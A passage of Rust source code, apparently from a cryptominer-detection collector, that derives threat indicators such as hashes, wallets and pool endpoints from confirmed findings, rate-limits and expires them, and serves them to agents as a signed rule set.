//! Fleet immunity (issue 16): what one host confirms, every agent learns.
//!
//! When a finding is confirmed, its indicators (binary hash, wallet, pool
//! domain, pool address, stratum login) are derived from its evidence and
//! stored with the finding that taught them. The live ones (not revoked,
//! not expired) and the rule files an admin published
//! (`signatures publish DIR`) form one versioned signature set, signed
//! with the collector's ed25519 key, that agents fetch with a conditional
//! GET (`GET /api/v1/fleet/signatures`).
//!
//! The miner is the adversary: an agent token on a compromised host can
//! send anything. So the severity is recomputed here from the evidence
//! (weights of kinds that can never confirm on their own are capped), a
//! finding carrying fleet evidence teaches nothing (no feedback loops), a
//! binary hash is taught only when something other than the binary
//! confirms the finding, each host may teach only so many new indicators
//! an hour, and every value reaches the rule file through the TOML
//! serializer, never through string formatting.

use crate::db::{Conn, DbError, Row};
use crate::keys::pool_host;
use crate::store::Store;
use rigwatch_signatures::{score, Evidence, EvidenceKind, Finding, Severity, Weight};
use serde::Serialize;
use sha2::{Digest, Sha256};
use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};

/// The name of the generated rule file inside the payload.
pub const INDICATORS_FILE: &str = "fleet/indicators.toml";
/// The prefix of published files' names inside the payload.
pub const PUBLISHED_PREFIX: &str = "published/";
/// The prefix of fleet rule ids (`fleet.<indicator id>`).
pub const RULE_PREFIX: &str = "fleet.";
/// The signing key's file name in the data directory.
pub const KEY_FILE: &str = "fleet-signing-key.pk8";
/// Largest published set, bytes of text in all.
pub const MAX_PUBLISHED_BYTES: usize = 8 << 20;
/// Most files a published set may hold (rule files and lists).
pub const MAX_PUBLISHED_FILES: usize = 512;

/// What learning allows: expiry and the per-host rate of new indicators.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct FleetLimits {
    /// Days an indicator lives without being seen again.
    pub ttl_days: u64,
    /// New indicators one host may teach per hour (more are refused and counted).
    pub per_host_per_hour: u64,
}

impl Default for FleetLimits {
    fn default() -> Self {
        FleetLimits {
            ttl_days: 30,
            per_host_per_hour: 20,
        }
    }
}

impl FleetLimits {
    /// The TTL in seconds.
    pub fn ttl_seconds(&self) -> u64 {
        self.ttl_days.saturating_mul(86_400)
    }
}

/// Why a finding (or one of its indicators) taught nothing: a small fixed
/// set, the label values of `rigwatch_collector_fleet_learning_refused_total`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Refusal {
    /// The finding carries evidence from a fleet rule (no feedback loops).
    FleetEvidence,
    /// The agent said confirmed; its evidence does not.
    NotConfirmed,
    /// A binary (or miner config) hash whose finding only that file confirms.
    HashUncorroborated,
    /// The host taught as many new indicators this hour as it may.
    RateLimited,
}

impl Refusal {
    /// Every reason, for pre-registering label values.
    pub const ALL: [Refusal; 4] = [
        Refusal::FleetEvidence,
        Refusal::NotConfirmed,
        Refusal::HashUncorroborated,
        Refusal::RateLimited,
    ];
    /// The label value.
    pub fn as_str(self) -> &'static str {
        match self {
            Refusal::FleetEvidence => "fleet_evidence",
            Refusal::NotConfirmed => "not_confirmed",
            Refusal::HashUncorroborated => "hash_uncorroborated",
            Refusal::RateLimited => "rate_limited",
        }
    }
}

/// The kinds of indicator, as rule kinds.
pub const KINDS: [&str; 7] = [
    "binary_hash",
    "config_hash",
    "oneliner_hash",
    "wallet",
    "pool_domain",
    "pool_address",
    "cmdline",
];

/// An indicator derived from evidence (not yet stored).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Derived {
    /// Rule kind: binary_hash, wallet, pool_domain, pool_address, cmdline.
    pub kind: &'static str,
    /// The hash, wallet, domain, `ip:port` or login.
    pub value: String,
    /// The coin (wallets only; else empty).
    pub coin: String,
}

/// The id of an indicator: 16 lowercase hex digits of
/// SHA-256(kind NUL value).
pub fn indicator_id(kind: &str, value: &str) -> String {
    let mut h = Sha256::new();
    h.update(kind.as_bytes());
    h.update([0u8]);
    h.update(value.as_bytes());
    hex::encode(h.finalize())[..16].to_string()
}

/// The weight evidence may carry as the collector sees it: kinds that
/// describe behaviour or origin (CPU, names, masquerade, persistence…)
/// never confirm on their own, whatever the agent claims.
fn trusted_weight(e: &Evidence) -> Weight {
    use EvidenceKind::*;
    let may_confirm = matches!(
        e.detail,
        Stratum { .. }
            | BinaryHash { .. }
            | BinaryContent { .. }
            | Wallet { .. }
            | CommandLine { .. }
            | PoolDomain { .. }
            | Dns { .. }
            | TlsSni { .. }
            | PoolConnection { .. }
            | MinerConfig { .. }
    );
    if may_confirm {
        e.weight
    } else {
        e.weight.min(Weight::Likely)
    }
}

fn recomputed(evidence: impl Iterator<Item = Evidence>) -> Option<Severity> {
    let v: Vec<Evidence> = evidence
        .map(|mut e| {
            e.weight = trusted_weight(&e);
            e
        })
        .collect();
    score(&v)
}

/// The fleet indicator ids a finding's evidence names (`fleet.<id>` rules).
pub fn fleet_hits(f: &Finding) -> Vec<String> {
    let mut out: Vec<String> = f
        .evidence
        .iter()
        .filter_map(|e| e.rule.as_deref()?.strip_prefix(RULE_PREFIX))
        .filter(|id| id.len() == 16 && id.bytes().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b)))
        .map(str::to_string)
        .collect();
    out.sort();
    out.dedup();
    out
}

/// An address worth teaching: routable, not loopback, private, link-local,
/// shared (CGNAT), multicast, documentation or unspecified.
pub fn public_endpoint(s: &str) -> Option<SocketAddr> {
    let a: SocketAddr = s.trim().parse().ok()?;
    if a.port() == 0 {
        return None;
    }
    let ok = match a.ip() {
        IpAddr::V4(v) => {
            let o = v.octets();
            !(v.is_loopback()
                || v.is_private()
                || v.is_unspecified()
                || v.is_link_local()
                || v.is_multicast()
                || v.is_broadcast()
                || v.is_documentation()
                || o[0] == 0
                || (o[0] == 100 && (o[1] & 0xc0) == 64)
                || o[0] >= 240)
        }
        IpAddr::V6(v) => {
            let s = v.segments();
            if let Some(v4) = v.to_ipv4_mapped() {
                return public_endpoint(&SocketAddr::new(IpAddr::V4(v4), a.port()).to_string());
            }
            !(v.is_loopback()
                || v.is_unspecified()
                || v.is_multicast()
                || (s[0] & 0xfe00) == 0xfc00
                || (s[0] & 0xffc0) == 0xfe80
                || s[0] == 0x2001 && s[1] == 0x0db8)
        }
    };
    ok.then_some(a)
}

fn is_wallet(w: &str) -> bool {
    (26..=120).contains(&w.len()) && w.bytes().all(|b| b.is_ascii_alphanumeric())
}

fn is_sha256(h: &str) -> bool {
    h.len() == 64 && h.bytes().all(|b| b.is_ascii_hexdigit())
}

/// A stratum login worth a command-line literal: 12 to 256 characters, no
/// white space, control characters or slashes (never a path or a flag), at
/// least one letter and one digit ("x", worker names and "password" are not
/// logins anyone can hunt for).
fn is_login(l: &str) -> bool {
    (12..=256).contains(&l.len())
        && !l.chars().any(|c| c.is_whitespace() || c.is_control() || c == '/' || c == '\\')
        && !l.starts_with('-')
        && l.chars().any(|c| c.is_ascii_digit())
        && l.chars().any(|c| c.is_alphabetic())
}

/// SHA-256 of nothing.
const EMPTY_SHA256: &str = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

/// The indicators a finding teaches, and why others were refused. Pure:
/// the finding in, the indicators out.
pub fn derive(f: &Finding) -> (Vec<Derived>, Vec<Refusal>) {
    if !fleet_hits(f).is_empty()
        || f.evidence
            .iter()
            .any(|e| e.rule.as_deref().is_some_and(|r| r.starts_with(RULE_PREFIX)))
    {
        return (Vec::new(), vec![Refusal::FleetEvidence]);
    }
    if recomputed(f.evidence.iter().cloned()) != Some(Severity::Confirmed) {
        let claimed = f.severity == Severity::Confirmed;
        return (Vec::new(), if claimed { vec![Refusal::NotConfirmed] } else { Vec::new() });
    }
    let mut out: Vec<Derived> = Vec::new();
    let mut refused = Vec::new();
    let mut add = |kind: &'static str, value: String, coin: &str| {
        if !out.iter().any(|d| d.kind == kind && d.value == value) {
            out.push(Derived {
                kind,
                value,
                coin: coin.to_string(),
            });
        }
    };
    // Wallets first: a login that is a wallet is taught as the wallet.
    let mut wallets: Vec<String> = Vec::new();
    for e in &f.evidence {
        match &e.detail {
            EvidenceKind::Wallet { coin, address, .. } if is_wallet(address.trim()) => {
                let coin = if coin.trim().is_empty() { "unknown" } else { coin.trim() };
                wallets.push(address.trim().to_string());
                add("wallet", address.trim().to_string(), coin);
            }
            EvidenceKind::MinerConfig { wallets: ws, .. } => {
                for w in ws.iter().map(|w| w.trim()).filter(|w| is_wallet(w)) {
                    wallets.push(w.to_string());
                    add("wallet", w.to_string(), "unknown");
                }
            }
            _ => {}
        }
    }
    let corroborated = || {
        recomputed(
            f.evidence
                .iter()
                .filter(|e| !matches!(e.detail, EvidenceKind::BinaryHash { .. } | EvidenceKind::BinaryContent { .. }))
                .cloned(),
        ) == Some(Severity::Confirmed)
    };
    let mut hash_refused = false;
    // a miner config file's hash: the same file renamed, its pool behind a
    // proxy, on the next host. Taught only when the finding is confirmed
    // without any file's word (config, binary), and only for a file that
    // held pools, wallets or miner keys (never the empty file).
    let corroborated_without_files = || {
        recomputed(
            f.evidence
                .iter()
                .filter(|e| {
                    !matches!(
                        e.detail,
                        EvidenceKind::BinaryHash { .. } | EvidenceKind::BinaryContent { .. } | EvidenceKind::MinerConfig { .. }
                    )
                })
                .cloned(),
        ) == Some(Severity::Confirmed)
    };
    for e in &f.evidence {
        if let EvidenceKind::MinerConfig {
            sha256: Some(h),
            pools,
            wallets,
            keys,
            ..
        } = &e.detail
        {
            let h = h.trim().to_ascii_lowercase();
            let said = !pools.is_empty() || !wallets.is_empty() || !keys.is_empty();
            if is_sha256(&h) && h != EMPTY_SHA256 && said {
                if corroborated_without_files() {
                    add("config_hash", h, "");
                } else {
                    hash_refused = true;
                }
            }
        }
    }
    // the dropper one-liner that started it (the agent sends its text; the
    // hash is computed here, and only a one-liner that fetched or decoded
    // something and ran it is taught, never an ordinary `sh -c`)
    if let Some(ol) = f.process.parent_oneliner.as_deref() {
        if ol.len() <= rigwatch_signatures::oneliner::MAX_BYTES && rigwatch_signatures::oneliner::looks_like_dropper(ol) {
            add("oneliner_hash", rigwatch_signatures::oneliner::sha256_hex(ol), "");
        }
    }
    // the executable's hash the agent read (ProcessInfo.sha256): the binary
    // that runs renamed on the next host
    if let Some(h) = f.process.sha256.as_deref().map(str::trim).filter(|h| is_sha256(h)) {
        if corroborated() {
            add("binary_hash", h.to_ascii_lowercase(), "");
        } else {
            hash_refused = true;
        }
    }
    for e in &f.evidence {
        match &e.detail {
            EvidenceKind::BinaryHash { sha256, .. } if is_sha256(sha256.trim()) => {
                if corroborated() {
                    add("binary_hash", sha256.trim().to_ascii_lowercase(), "");
                } else {
                    hash_refused = true;
                }
            }
            EvidenceKind::Stratum { login, worker, remote, .. } => {
                if let Some(a) = public_endpoint(remote) {
                    add("pool_address", a.to_string(), "");
                }
                if let Some(domain) = pool_host(remote).and_then(|h| rigwatch_signatures::import::normalise_domain(&h)) {
                    add("pool_domain", domain, "");
                }
                if let Some(l) = login.as_deref().map(str::trim) {
                    let is_worker = worker.as_deref().map(str::trim) == Some(l);
                    let has_wallet = wallets.iter().any(|w| l.contains(w.as_str()));
                    if is_login(l) && !is_worker && !has_wallet {
                        add("cmdline", l.to_string(), "");
                    }
                }
            }
            EvidenceKind::PoolConnection { remote, reason, domain } => {
                if !reason.starts_with("listens on ") {
                    if let Some(a) = public_endpoint(remote) {
                        add("pool_address", a.to_string(), "");
                    }
                }
                if let Some(d) = domain
                    .as_deref()
                    .and_then(pool_host)
                    .and_then(|h| rigwatch_signatures::import::normalise_domain(&h))
                {
                    add("pool_domain", d, "");
                }
            }
            _ => {}
        }
    }
    // Pool names, as the campaign keys read them (command line, config, DNS, SNI…).
    for (k, v) in crate::keys::finding_keys(f) {
        if k == "pool" {
            if let Some(d) = rigwatch_signatures::import::normalise_domain(&v) {
                add("pool_domain", d, "");
            }
        }
    }
    if hash_refused {
        refused.push(Refusal::HashUncorroborated);
    }
    // What the bundled rules already say, every agent knows: not taught again.
    out.retain(|d| !already_known(d));
    (out, refused)
}

/// The bundled signature set, compiled once.
fn bundled() -> &'static rigwatch_signatures::Signatures {
    static S: std::sync::OnceLock<rigwatch_signatures::Signatures> = std::sync::OnceLock::new();
    S.get_or_init(|| rigwatch_signatures::load(&[], true).signatures)
}

/// Whether the bundled rules already match an indicator (a known hash,
/// pool domain or pool address). Wallets are always taught: the bundled
/// rules know wallet formats, not this wallet.
fn already_known(d: &Derived) -> bool {
    let s = bundled();
    match d.kind {
        "binary_hash" | "config_hash" | "oneliner_hash" => {
            let mut h = [0u8; 32];
            hex::decode_to_slice(&d.value, &mut h).is_ok() && s.binary_hash(&h).is_some()
        }
        "pool_domain" => s.pool_domain(&d.value).is_some(),
        "pool_address" => d.value.parse::<SocketAddr>().is_ok_and(|a| s.pool_address(&a).is_some()),
        _ => false,
    }
}

/// What learning from one finding did.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LearnOutcome {
    /// Refusals, by reason.
    pub refused: Vec<Refusal>,
    /// Fleet indicators this finding hit for the first time.
    pub hits: Vec<String>,
    /// New indicators stored.
    pub taught: u64,
    /// The published set changed (its version was bumped).
    pub changed: bool,
}

/// Bumps the set's version (in the same transaction as the change).
pub fn bump_version(c: &mut dyn Conn) -> Result<u64, DbError> {
    c.exec("UPDATE fleet_meta SET value = value + 1 WHERE name = 'version'", &[])?;
    version_tx(c)
}

/// The set's version.
pub fn version_tx(c: &mut dyn Conn) -> Result<u64, DbError> {
    Ok(c.query("SELECT value FROM fleet_meta WHERE name = 'version'", &[])?
        .first()
        .map(|r| r[0].int() as u64)
        .unwrap_or(0))
}

/// Learns from a finding just stored by ingest (same transaction): counts
/// its hits on fleet indicators, then, if it is confirmed by its own
/// evidence, stores or refreshes its indicators.
pub fn learn_tx(c: &mut dyn Conn, host: &str, f: &Finding, at: u64, limits: FleetLimits) -> Result<LearnOutcome, DbError> {
    let mut out = LearnOutcome::default();
    for id in fleet_hits(f) {
        let fresh = c.exec(
            "INSERT INTO fleet_hits (indicator, host, finding_id, at) \
             SELECT id, CAST($2 AS TEXT), CAST($3 AS TEXT), CAST($4 AS BIGINT) FROM fleet_indicators WHERE id = $1 ON CONFLICT DO NOTHING",
            &[id.as_str().into(), host.into(), f.id.as_str().into(), at.into()],
        )?;
        if fresh > 0 {
            c.exec("UPDATE fleet_indicators SET hits = hits + 1 WHERE id = $1", &[id.as_str().into()])?;
            out.hits.push(id);
        }
    }
    let (derived, refused) = derive(f);
    out.refused = refused;
    let mut budget: Option<u64> = None;
    for d in derived {
        let id = indicator_id(d.kind, &d.value);
        let cur = c.query(
            "SELECT expired_at, revoked_at FROM fleet_indicators WHERE id = $1",
            &[id.as_str().into()],
        )?;
        if let Some(r) = cur.first() {
            // Seen again: refreshed (and back from expiry); the first teacher stays.
            c.exec(
                "UPDATE fleet_indicators SET last_seen = CASE WHEN last_seen < $2 THEN $2 ELSE last_seen END, \
                 expired_at = 0 WHERE id = $1",
                &[id.as_str().into(), at.into()],
            )?;
            if r[0].int() != 0 && r[1].int() == 0 {
                out.changed = true;
            }
            continue;
        }
        let left = match budget {
            Some(n) => n,
            None => {
                let n = c
                    .query(
                        "SELECT COUNT(*) FROM fleet_indicators WHERE taught_host = $1 AND first_seen > $2",
                        &[host.into(), at.saturating_sub(3600).into()],
                    )?
                    .first()
                    .map(|r| r[0].int() as u64)
                    .unwrap_or(0);
                limits.per_host_per_hour.saturating_sub(n)
            }
        };
        if left == 0 {
            budget = Some(0);
            out.refused.push(Refusal::RateLimited);
            continue;
        }
        budget = Some(left - 1);
        c.exec(
            "INSERT INTO fleet_indicators (id, kind, value, coin, taught_host, taught_finding, first_seen, last_seen, \
             hits, revoked_at, revoked_by, expired_at) VALUES ($1, $2, $3, $4, $5, $6, $7, $7, 0, 0, '', 0) \
             ON CONFLICT (id) DO NOTHING",
            &[
                id.as_str().into(),
                d.kind.into(),
                d.value.as_str().into(),
                d.coin.as_str().into(),
                host.into(),
                f.id.as_str().into(),
                at.into(),
            ],
        )?;
        out.taught += 1;
        out.changed = true;
    }
    if out.changed {
        bump_version(c)?;
    }
    Ok(out)
}

/// One stored indicator.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct Indicator {
    /// 16 hex digits.
    pub id: String,
    /// Rule kind.
    pub kind: String,
    /// The hash, wallet, domain, endpoint or login (attacker-controlled!).
    pub value: String,
    /// Wallets' coin.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub coin: String,
    /// The finding that taught it.
    pub taught_by: TaughtBy,
    /// Unix seconds.
    pub first_seen: u64,
    /// Unix seconds: the last confirmed finding that showed it.
    pub last_seen: u64,
    /// Unix seconds it expires (or expired) unless seen again.
    pub expires: u64,
    /// Findings that matched it on agents.
    pub hits: u64,
    /// live, revoked or expired.
    pub state: String,
    /// Unix seconds, 0 if not revoked.
    pub revoked_at: u64,
    /// The analyst who revoked it.
    #[serde(skip_serializing_if = "String::is_empty")]
    pub revoked_by: String,
}

/// Where an indicator came from.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct TaughtBy {
    /// Host.
    pub host: String,
    /// Finding id on that host.
    pub finding: String,
}

const INDICATOR_COLS: &str =
    "id, kind, value, coin, taught_host, taught_finding, first_seen, last_seen, hits, revoked_at, revoked_by, expired_at";

fn indicator(r: &Row, ttl: u64) -> Indicator {
    let (revoked_at, expired_at) = (r[9].int() as u64, r[11].int() as u64);
    let last_seen = r[7].int() as u64;
    Indicator {
        id: r[0].text(),
        kind: r[1].text(),
        value: r[2].text(),
        coin: r[3].text(),
        taught_by: TaughtBy {
            host: r[4].text(),
            finding: r[5].text(),
        },
        first_seen: r[6].int() as u64,
        last_seen,
        expires: last_seen.saturating_add(ttl),
        hits: r[8].int() as u64,
        state: if revoked_at != 0 {
            "revoked"
        } else if expired_at != 0 {
            "expired"
        } else {
            "live"
        }
        .into(),
        revoked_at,
        revoked_by: r[10].text(),
    }
}

/// The signed set's content at one version.
#[derive(Clone, Debug)]
pub struct Snapshot {
    /// Its version.
    pub version: u64,
    /// Live indicators.
    pub indicators: Vec<Indicator>,
    /// Published files `(name relative to the publish directory, text)`.
    pub files: Vec<(String, String)>,
}

impl Store {
    /// Every indicator, newest first.
    pub async fn fleet_indicators(&self, limits: FleetLimits) -> Result<Vec<Indicator>, DbError> {
        let ttl = limits.ttl_seconds();
        self.run(false, move |c| {
            Ok(c.query(
                &format!("SELECT {INDICATOR_COLS} FROM fleet_indicators ORDER BY first_seen DESC, id"),
                &[],
            )?
            .iter()
            .map(|r| indicator(r, ttl))
            .collect())
        })
        .await
    }

    /// The set's current version.
    pub async fn fleet_version(&self) -> Result<u64, DbError> {
        self.run(false, version_tx).await
    }

    /// The current set: version, live indicators, published files (one read
    /// transaction, so they agree).
    pub async fn fleet_snapshot(&self, limits: FleetLimits) -> Result<Snapshot, DbError> {
        let ttl = limits.ttl_seconds();
        self.run(false, move |c| {
            let version = version_tx(c)?;
            let indicators = c
                .query(
                    &format!("SELECT {INDICATOR_COLS} FROM fleet_indicators WHERE revoked_at = 0 AND expired_at = 0 ORDER BY id"),
                    &[],
                )?
                .iter()
                .map(|r| indicator(r, ttl))
                .collect();
            let files = c
                .query("SELECT name, body FROM fleet_files ORDER BY name", &[])?
                .iter()
                .map(|r| (r[0].text(), r[1].text()))
                .collect();
            Ok(Snapshot {
                version,
                indicators,
                files,
            })
        })
        .await
    }

    /// Revokes a live (or expired) indicator: it leaves the set at once.
    /// False when there is no such indicator or it was revoked already.
    pub async fn fleet_revoke(&self, id: &str, by: &str, at: u64) -> Result<bool, DbError> {
        let (id, by) = (id.to_string(), by.to_string());
        self.run(true, move |c| {
            let n = c.exec(
                "UPDATE fleet_indicators SET revoked_at = $2, revoked_by = $3 WHERE id = $1 AND revoked_at = 0",
                &[id.as_str().into(), at.max(1).into(), by.as_str().into()],
            )?;
            if n > 0 {
                bump_version(c)?;
            }
            Ok(n > 0)
        })
        .await
    }

    /// Expires the indicators not seen for the TTL; returns how many.
    pub async fn fleet_expire(&self, now: u64, limits: FleetLimits) -> Result<u64, DbError> {
        let before = now.saturating_sub(limits.ttl_seconds());
        self.run(true, move |c| {
            let n = c.exec(
                "UPDATE fleet_indicators SET expired_at = $1 WHERE revoked_at = 0 AND expired_at = 0 AND last_seen < $2",
                &[now.max(1).into(), before.into()],
            )?;
            if n > 0 {
                bump_version(c)?;
            }
            Ok(n)
        })
        .await
    }

    /// Forgets which findings hit which indicator before `before` (unix
    /// seconds): the table stays bounded; a finding reported again after
    /// that counts again.
    pub async fn fleet_prune_hits(&self, before: u64) -> Result<u64, DbError> {
        self.run(true, move |c| c.exec("DELETE FROM fleet_hits WHERE at < $1", &[before.into()]))
            .await
    }

    /// Records the fleet policy this collector serves (`forbid_local_allowlist`)
    /// and bumps the set's version when it differs from the one the set
    /// last carried, so that agents holding the set get the new policy at
    /// their next poll rather than a 304. True when it changed.
    pub async fn fleet_policy(&self, forbid_local_allowlist: bool) -> Result<bool, DbError> {
        let want = i64::from(forbid_local_allowlist);
        self.run(true, move |c| {
            let had = c
                .query("SELECT value FROM fleet_meta WHERE name = 'policy_local_allowlist'", &[])?
                .first()
                .map(|r| r[0].int());
            if had == Some(want) {
                return Ok(false);
            }
            c.exec("DELETE FROM fleet_meta WHERE name = 'policy_local_allowlist'", &[])?;
            c.exec(
                "INSERT INTO fleet_meta (name, value) VALUES ('policy_local_allowlist', $1)",
                &[want.into()],
            )?;
            // the first record of "allow" changes nothing agents hold
            if had.is_some() || want != 0 {
                bump_version(c)?;
            }
            Ok(true)
        })
        .await
    }

    /// Replaces the published files (none: clears them) and bumps the version.
    pub async fn fleet_publish(&self, files: Vec<(String, String)>) -> Result<u64, DbError> {
        self.run(true, move |c| {
            c.exec("DELETE FROM fleet_files", &[])?;
            for (name, body) in &files {
                c.exec(
                    "INSERT INTO fleet_files (name, body) VALUES ($1, $2)",
                    &[name.as_str().into(), body.as_str().into()],
                )?;
            }
            bump_version(c)
        })
        .await
    }

    /// Indicators by kind and state, for `/metrics`.
    pub async fn fleet_counts(&self) -> Result<Vec<(String, String, u64)>, DbError> {
        self.run(false, |c| {
            Ok(c.query(
                "SELECT kind, CASE WHEN revoked_at <> 0 THEN 'revoked' WHEN expired_at <> 0 THEN 'expired' ELSE 'live' END, \
                 COUNT(*) FROM fleet_indicators GROUP BY 1, 2",
                &[],
            )?
            .iter()
            .map(|r| (r[0].text(), r[1].text(), r[2].int() as u64))
            .collect())
        })
        .await
    }

    /// An agent token's name and host (the host it is bound to, else its
    /// name) for a secret; `None` unless it is a valid agent token.
    pub async fn agent_for_token(&self, secret: &str) -> Result<Option<(String, crate::store::Role, String)>, DbError> {
        let hash = crate::store::token_hash(secret);
        let at = crate::store::now();
        self.run(false, move |c| {
            let rows = c.query(
                "SELECT name, role, host FROM tokens WHERE revoked_at = 0 AND (hash = $1 OR (prev_hash = $1 AND prev_until > $2))",
                &[hash.as_str().into(), at.into()],
            )?;
            Ok(rows.first().map(|r| {
                let host = if r[2].text().is_empty() { r[0].text() } else { r[2].text() };
                (r[0].text(), crate::store::Role::parse(&r[1].text()), host)
            }))
        })
        .await
    }
}

// ------------------------------------------------------------ the rule file

#[derive(Serialize)]
struct OutFile<'a> {
    meta: OutMeta,
    rule: Vec<OutRule<'a>>,
}

#[derive(Serialize)]
struct OutMeta {
    source: String,
}

#[derive(Serialize)]
struct OutRule<'a> {
    id: String,
    kind: &'a str,
    severity: &'a str,
    description: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    sha256: Option<Vec<&'a str>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    coin: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    regex: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    domains: Option<Vec<&'a str>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    addresses: Option<Vec<&'a str>>,
    #[serde(skip_serializing_if = "Option::is_none")]
    literals: Option<Vec<&'a str>>,
    examples: OutExamples<'a>,
}

#[derive(Serialize)]
struct OutExamples<'a> {
    hit: Vec<&'a str>,
}

/// The rule file of the live indicators, one `[[rule]]` each, written by
/// the TOML serializer (values come from hostile agents).
pub fn indicators_toml(list: &[Indicator]) -> String {
    let rules = list
        .iter()
        .filter_map(|i| {
            let mut r = OutRule {
                id: format!("{RULE_PREFIX}{}", i.id),
                kind: "",
                severity: "likely",
                description: format!("fleet: taught by {}/{}", i.taught_by.host, i.taught_by.finding),
                sha256: None,
                coin: None,
                regex: None,
                domains: None,
                addresses: None,
                literals: None,
                examples: OutExamples { hit: vec![&i.value] },
            };
            match i.kind.as_str() {
                "binary_hash" => {
                    r.kind = "binary_hash";
                    r.severity = "confirmed";
                    r.sha256 = Some(vec![&i.value]);
                }
                // the agent's config sensor matches config files against hash
                // rules, its detector ancestors' one-liners
                "config_hash" | "oneliner_hash" => {
                    r.kind = "binary_hash";
                    r.severity = "likely";
                    r.sha256 = Some(vec![&i.value]);
                }
                "wallet" => {
                    r.kind = "wallet";
                    r.severity = "confirmed";
                    r.coin = Some(if i.coin.is_empty() { "unknown" } else { &i.coin });
                    r.regex = Some(regex::escape(&i.value));
                }
                "pool_domain" => {
                    r.kind = "pool_domain";
                    r.domains = Some(vec![&i.value]);
                }
                "pool_address" => {
                    r.kind = "pool_address";
                    r.addresses = Some(vec![&i.value]);
                }
                "cmdline" => {
                    r.kind = "cmdline";
                    r.literals = Some(vec![&i.value]);
                }
                _ => return None,
            }
            Some(r)
        })
        .collect();
    let file = OutFile {
        meta: OutMeta {
            source: "rigwatch-collector: indicators taught by confirmed findings across the fleet".into(),
        },
        rule: rules,
    };
    toml::to_string(&file).unwrap_or_default()
}

/// The signed payload's text: `{"version", "issued", "files": [{"name", "text"}]}`.
pub fn payload(s: &Snapshot, issued: u64) -> String {
    let mut files = vec![serde_json::json!({ "name": INDICATORS_FILE, "text": indicators_toml(&s.indicators) })];
    for (name, text) in &s.files {
        files.push(serde_json::json!({ "name": format!("{PUBLISHED_PREFIX}{name}"), "text": text }));
    }
    serde_json::json!({ "version": s.version, "issued": issued, "files": files }).to_string()
}

// ------------------------------------------------------------ the signing key

/// The collector's ed25519 signing key.
pub struct SigningKey {
    pair: ring::signature::Ed25519KeyPair,
}

impl std::fmt::Debug for SigningKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "SigningKey({})", self.public_base64())
    }
}

impl SigningKey {
    /// Loads the key from `DATA_DIR/fleet-signing-key.pk8`, making it
    /// (PKCS#8, mode 0600) on first use. A file that exists but cannot be
    /// read or is not an ed25519 PKCS#8 key is an error, never replaced.
    pub fn load_or_create(data_dir: &Path) -> anyhow::Result<SigningKey> {
        let path = data_dir.join(KEY_FILE);
        match std::fs::read(&path) {
            Ok(bytes) => Self::from_pkcs8(&bytes).map_err(|e| {
                anyhow::anyhow!(
                    "fleet signing key {}: {e}; restore it or move it away to make a new one (agents must then get the new public key)",
                    path.display()
                )
            }),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Self::create(&path),
            Err(e) => anyhow::bail!("fleet signing key {}: cannot read it: {e}", path.display()),
        }
    }

    fn from_pkcs8(bytes: &[u8]) -> anyhow::Result<SigningKey> {
        let pair = ring::signature::Ed25519KeyPair::from_pkcs8(bytes)
            .or_else(|_| ring::signature::Ed25519KeyPair::from_pkcs8_maybe_unchecked(bytes))
            .map_err(|e| anyhow::anyhow!("not an ed25519 PKCS#8 key ({e})"))?;
        Ok(SigningKey { pair })
    }

    fn create(path: &PathBuf) -> anyhow::Result<SigningKey> {
        use std::io::Write;
        use std::os::unix::fs::OpenOptionsExt;
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).map_err(|e| anyhow::anyhow!("cannot create {}: {e}", dir.display()))?;
        }
        let doc = ring::signature::Ed25519KeyPair::generate_pkcs8(&ring::rand::SystemRandom::new())
            .map_err(|_| anyhow::anyhow!("cannot generate an ed25519 key"))?;
        let tmp = path.with_extension("pk8.tmp");
        let _ = std::fs::remove_file(&tmp);
        let mut f = std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o600)
            .open(&tmp)
            .map_err(|e| anyhow::anyhow!("cannot write {}: {e}", tmp.display()))?;
        f.write_all(doc.as_ref())?;
        f.sync_all()?;
        drop(f);
        // Never replace a key another process made meanwhile.
        std::fs::hard_link(&tmp, path)
            .or_else(|e| if path.exists() { Ok(()) } else { Err(e) })
            .map_err(|e| anyhow::anyhow!("cannot write {}: {e}", path.display()))?;
        let _ = std::fs::remove_file(&tmp);
        let bytes = std::fs::read(path).map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
        tracing::info!(path = %path.display(), "made the fleet signing key");
        Self::from_pkcs8(&bytes)
    }

    /// The raw 32-byte public key, base64 (standard): what agents are given
    /// as `fleet_public_key`.
    pub fn public_base64(&self) -> String {
        use base64::Engine;
        use ring::signature::KeyPair;
        base64::engine::general_purpose::STANDARD.encode(self.pair.public_key().as_ref())
    }

    /// The signature over `msg`, base64 (standard).
    pub fn sign_base64(&self, msg: &[u8]) -> String {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(self.pair.sign(msg).as_ref())
    }
}

/// The JSON body served at version `s.version`.
pub fn signed_body(s: &Snapshot, issued: u64, key: &SigningKey) -> String {
    let p = payload(s, issued);
    serde_json::json!({
        "version": s.version,
        "signature": key.sign_base64(p.as_bytes()),
        "public_key": key.public_base64(),
        "payload": p,
    })
    .to_string()
}

// ------------------------------------------------------------ publishing

/// Reads a directory's `*.toml` rule files and the list files they name,
/// and validates them as agents will. Returns `(name relative to DIR,
/// text)` for each file, or every error as `FILE:LINE: message`.
pub fn read_publish_dir(dir: &Path) -> Result<Vec<(String, String)>, Vec<String>> {
